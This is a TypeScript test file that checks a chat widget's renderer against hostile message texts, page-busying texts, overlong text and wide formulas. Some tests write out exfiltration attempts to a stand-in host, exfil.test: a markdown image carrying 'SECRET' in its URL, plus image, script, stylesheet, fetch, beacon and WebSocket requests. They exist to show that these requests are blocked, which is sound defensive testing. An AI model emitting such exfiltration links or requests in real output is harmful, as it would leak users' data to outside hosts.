import { beforeAll, describe, expect, it } from 'vitest';
import { faultsOf } from '../attack/attackResult';
import { runAlone, runMessages, runSettings, runStreamed, type AttackGround } from '../attack/attackRun';
import { inspectFrame } from '../attack/inspect';
import { warmUp } from '../attack/look';
import { MESSAGE_PLACES, SETTING_PLACES } from '../attack/places';
import { openRawPage } from '../attack/rawPage';
import { chooseCore, readAttacks } from '../attack/readAttacks';
import { traceTasks } from '../attack/watch';
import { useBrowser, useStack } from '../useStack';

/** A small choice of every kind of attack; `npm run attack` runs all of them in all places. */
const everything = readAttacks();
const core = chooseCore(
  everything.filter(({ kind }) => !kind.startsWith('dos-')),
  10,
);
const zeroClick = everything.filter(({ kind }) => kind === 'exfil-zeroclick');

const { stack, host } = await useStack();
// Diagrams are drawn in a frame of their own, which on a desktop has a process of its own: what it does for long keeps no
// page busy.
const browser = await useBrowser({ isolatesSites: true });
let ground: AttackGround;

beforeAll(async () => {
  const pages = await Promise.all([1, 2].map(() => openRawPage(browser, stack.origin, host)));
  await Promise.all(pages.map(warmUp));
  ground = { pages, own: { server: stack.origin, host: host.origin }, trace: () => traceTasks(browser) };
});

/**
 * More than what `npm run attack` allows: other suites share the processor, and its caches, with this one. In
 * milliseconds.
 */
const TASK_MAX_MS = 500;

const faults = (results: Parameters<typeof faultsOf>[0][]): string[] =>
  results.flatMap((result) => faultsOf(result, TASK_MAX_MS));

describe('A101 A103 A105 A106 A107 A109 A110 A112 A113 A117 A118 A120 hostile texts', () => {
  it.each(MESSAGE_PLACES)(
    'as $name run nothing, load nothing, post nothing and stay in their message',
    { timeout: 120_000 },
    async (place) => {
      const results = await runMessages(ground, core, [place]);
      expect(results[0]?.shown).toBeGreaterThan(200);
      expect(faults(results)).toEqual([]);
    },
  );
});

describe('A301 A302 A303 A304 A306 A307 texts that keep a page busy', () => {
  it('never keep it for long in one piece', { timeout: 240_000 }, async () => {
    expect(
      faults(
        await runAlone(
          ground,
          everything.filter(({ kind }) => kind.startsWith('dos-')),
        ),
      ),
    ).toEqual([]);
  });
});

describe('A306 a very long text', () => {
  it('is simply there, where a short one rises: a browser would paint all of it for that', async () => {
    const raw = await openRawPage(browser, stack.origin, host);
    await raw.frame.evaluate(
      `void (window.risen = [], document.addEventListener('animationstart', ({ animationName, target }) => ` +
        `{ if (animationName === 'sotto-rise') risen.push(target.dataset.key); }))`,
    );
    await raw.call('setMessages', { messages: [{ id: 'long', type: 'bot', text: 'A line.\n\n'.repeat(2_000) }] });
    await raw.frame.waitForSelector('[data-key=long] p', { state: 'attached' });
    // What begins to move says so with the next picture.
    await raw.frame.evaluate(
      'new Promise((resolve) => { requestAnimationFrame(() => { requestAnimationFrame(resolve); }); })',
    );
    await raw.call('setMessages', { messages: [{ id: 'short', type: 'bot', text: 'A line.' }] });
    await raw.frame.waitForSelector('[data-key=short] p:not(.sotto-plain-wait)');
    await expect.poll(() => raw.frame.evaluate('risen'), { timeout: 10_000 }).toEqual(['short']);
    await raw.close();
  });

  it.each([
    ['', 'A line.\n\n'.repeat(2_000), 2_000],
    [', also where the rest of it is shown as it was written', `${'A line. '.repeat(6)}\n\n`.repeat(2_400), 2_005],
  ])(
    'comes in parts that are laid out when they are near, and its end stays in view%s',
    async (_, text, paragraphs) => {
      const raw = await openRawPage(browser, stack.origin, host);
      await raw.call('setMessages', { messages: [{ id: 'long', type: 'bot', text }] });
      const stand = () =>
        raw.frame.evaluate(() => {
          const { scrollHeight, scrollTop, clientHeight } = document.querySelector('.sotto-scroller') ?? document.body;
          return {
            paragraphs: document.querySelectorAll('[data-key=long] p').length,
            isAtEnd: scrollHeight - scrollTop - clientHeight < 2,
            // The last may still grow: skipped before it is whole, it would become shorter when it is laid out.
            skippable: [...document.querySelectorAll('.sotto-blocks')].map(
              (box) => getComputedStyle(box).contentVisibility,
            ),
            laidOut: [...document.querySelectorAll('.sotto-blocks > :last-child')].map((last) =>
              last.checkVisibility({ contentVisibilityAuto: true }),
            ),
          };
        });
      await expect
        .poll(stand, { timeout: 20_000 })
        .toEqual({ paragraphs, isAtEnd: true, skippable: ['auto', 'auto', 'visible'], laidOut: [false, false, true] });
      await raw.close();
    },
  );
});

describe('A101 A103 A105 A106 A107 A109 A110 A112 A113 hostile texts that the model writes, or a page sets', () => {
  it('streamed in small pieces are as harmless at every step', { timeout: 180_000 }, async () => {
    expect(
      faults(
        await runStreamed(
          ground,
          core.filter((_, index) => index % 4 === 0),
        ),
      ),
    ).toEqual([]);
  });

  it.each(SETTING_PLACES)('A103 T16 as $name run nothing and load nothing', { timeout: 120_000 }, async (place) => {
    expect(
      faults(
        await runSettings(
          ground,
          core.filter((_, index) => index % 5 === 0),
          [place],
        ),
      ),
    ).toEqual([]);
  });
});

describe('A110 a formula that is wider than its place', () => {
  /** Cannot be broken into lines. */
  const WIDE =
    '\\underbrace{a b c d e f g h i j k l m n o p q r s t u v w x y z a b c d e f g h i j k l m n o p q r s t u v w x y z}_{all}';
  const fence = (type: string, body: unknown): string => `\`\`\`${type}\n${JSON.stringify(body)}\n\`\`\``;
  const captions = [`$${WIDE}$`, `Take $${WIDE}$ of them`, `$$${WIDE}$$`];
  const places: readonly (readonly [string, string])[] = [
    [
      'a choice',
      fence(
        'buttons',
        captions.map((caption) => ({ caption })),
      ),
    ],
    [
      'a link among choices',
      fence(
        'buttons',
        captions.map((caption) => ({ caption, href: 'https://example.com/' })),
      ),
    ],
    [
      'a card',
      fence('card', {
        title: captions[1],
        description: captions[1],
        buttons: [{ caption: captions[0] }, { caption: captions[2], href: 'https://example.com/' }],
      }),
    ],
    [
      'a carousel',
      fence('carousel', {
        items: [
          { title: captions[1], buttons: [{ caption: captions[1] }] },
          { title: 'Next', buttons: [{ caption: 'Take it' }] },
        ],
      }),
    ],
    [
      'a form',
      fence('form', {
        submit: captions[1],
        fields: [
          { name: 'a', label: captions[1] },
          { name: 'b', label: 'Pick', type: 'radio', options: [{ value: 'x', caption: captions[1] }] },
        ],
      }),
    ],
    ['a sentence', `Take ${captions[0] ?? ''} of them, in **${captions[0] ?? ''}** and so on`],
    ['a list', `- ${captions[1] ?? ''}\n  1. ${captions[0] ?? ''}`],
    ['a heading', `## ${captions[1] ?? ''}`],
  ];

  it.each(places)('in %s scrolls inside its own box', async (_, text) => {
    const raw = await openRawPage(browser, stack.origin, host);
    await raw.call('setMessages', { messages: [{ id: 'one', type: 'bot', text }] });
    await raw.frame.waitForSelector('.sotto-formula:not([hidden]) .katex');
    const boxes = await raw.frame.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('article .sotto-formula:not([hidden])')].map((formula) => {
        const box = formula.getBoundingClientRect();
        const around = (
          formula.closest('button, a, label, li, h2, p, .sotto-card-words') ?? document.body
        ).getBoundingClientRect();
        formula.scrollLeft = 10_000;
        return {
          isInside: box.left >= around.left - 1 && box.right <= around.right + 1,
          scrolls: formula.scrollLeft > 0 && formula.scrollLeft + formula.clientWidth >= formula.scrollWidth - 1,
        };
      }),
    );
    expect(boxes.length).toBeGreaterThan(0);
    expect(boxes).toEqual(boxes.map(() => ({ isInside: true, scrolls: true })));
    expect(await raw.frame.evaluate(inspectFrame, { server: stack.origin, host: host.origin })).toEqual([]);
    await raw.close();
  });

  it('leaves the words beside a small formula on its line', async () => {
    const raw = await openRawPage(browser, stack.origin, host);
    await raw.call('setMessages', {
      messages: [{ id: 'one', type: 'bot', text: 'The $x$ and $\\frac{a}{b}$ and $x_{i}^{2}$ of it.' }],
    });
    await raw.frame.waitForSelector('.sotto-formula:not([hidden]) .katex');
    // An empty inline block stands on the baseline: put beside the formula and inside it, it tells both.
    const offsets = await raw.frame.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('article .sotto-formula')].map((formula) => {
        const mark = (): HTMLElement =>
          Object.assign(document.createElement('span'), { style: 'display:inline-block' });
        const outside = mark();
        const inside = mark();
        formula.before(outside);
        formula.querySelector('.katex-base')?.prepend(inside);
        const offset = inside.getBoundingClientRect().bottom - outside.getBoundingClientRect().bottom;
        outside.remove();
        inside.remove();
        return Math.round(offset);
      }),
    );
    expect(offsets).toEqual([0, 0, 0]);
    await raw.close();
  });
});

describe('A201 A203 A206 what leaves without a click', () => {
  it('is nothing, of all the ways there are', { timeout: 120_000 }, async () => {
    expect(faults(await runMessages(ground, zeroClick, MESSAGE_PLACES.slice(0, 1)))).toEqual([]);
  });

  it(
    'A208 is nothing either when the renderer is bypassed: the policy of the frame is a second wall',
    { timeout: 120_000 },
    async () => {
      const raw = await openRawPage(browser, stack.origin, host);
      // Frames and refreshes are the overlay's and the browser's own: no policy names them. Those two only the renderer
      // stops.
      const payloads = zeroClick
        .filter(
          ({ payload }) => /^</.test(payload.trim()) && !/<(?:iframe|frame|meta|object|embed|portal)/i.test(payload),
        )
        .map(({ payload }) => payload);
      expect(payloads.length).toBeGreaterThan(15);
      const written = await raw.frame.evaluate((markup) => {
        let count = 0;
        for (const text of markup) {
          // The policy forbids to read markup in this document, so it is read in another way: as XHTML is not lenient,
          // only what is well-formed enters.
          const read = new DOMParser();
          try {
            read.parseFromString(text, 'text/html');
          } catch {
            count += 1;
          }
          const image = document.createElement('img');
          image.src = `https://exfil.test/${String(count)}`;
          document.body.append(image);
          for (const [tag, name] of [
            ['video', 'poster'],
            ['audio', 'src'],
            ['video', 'src'],
            ['object', 'data'],
            ['embed', 'src'],
            ['input', 'src'],
            ['link', 'href'],
            ['script', 'src'],
            ['source', 'srcset'],
            ['track', 'src'],
            ['image', 'href'],
            ['base', 'href'],
          ] as const) {
            const element = document.createElement(tag);
            if (tag === 'input') element.setAttribute('type', 'image');
            if (tag === 'link') element.setAttribute('rel', 'stylesheet');
            try {
              element.setAttribute(name, `https://exfil.test/${tag}`);
              document.body.append(element);
            } catch {
              count += 1;
            }
          }
        }
        document.body.style.backgroundImage = 'url(https://exfil.test/css)';
        void fetch('https://exfil.test/fetch').catch(() => undefined);
        navigator.sendBeacon('https://exfil.test/beacon');
        try {
          new WebSocket('wss://exfil.test/socket');
        } catch {
          count += 1;
        }
        return count;
      }, payloads);
      // Trusted Types refuse every one of them before it is markup.
      expect(written).toBeGreaterThanOrEqual(payloads.length);
      await raw.page.waitForTimeout(500);
      expect(raw.signals.requests).toEqual([]);
      await raw.close();
    },
  );

  it('A207 a picture of a stranger comes by one click, through the server, and the page hears that it waits', async () => {
    const raw = await openRawPage(browser, stack.origin, host);
    await raw.page.evaluate(
      `window.told = []; addEventListener('message', ({ data }) => { if (data?.type === 'onError') told.push(data.props.code + ' ' + data.props.message); })`,
    );
    await raw.call('setMessages', {
      messages: [{ id: 'one', type: 'bot', text: '![A chart](https://exfil.test/chart.png?said=SECRET)' }],
    });
    const show = raw.frame.getByRole('button', { name: /exfil\.test/ });
    await show.waitFor();
    expect(raw.signals.requests).toEqual([]);
    const requested = raw.page.waitForRequest((request) => request.url().includes('/unfurl'));
    await show.focus();
    await raw.page.keyboard.press('Enter');
    expect(new URL((await requested).url()).origin).toBe(stack.origin);
    expect(raw.signals.requests).toEqual([]);
    const reported = await raw.page.evaluate<string[]>('window.told');
    expect(reported).toEqual([expect.stringMatching(/^content_blocked .*exfil\.test/)]);
    expect(reported.join()).not.toContain('SECRET');
    await raw.close();
  });
});
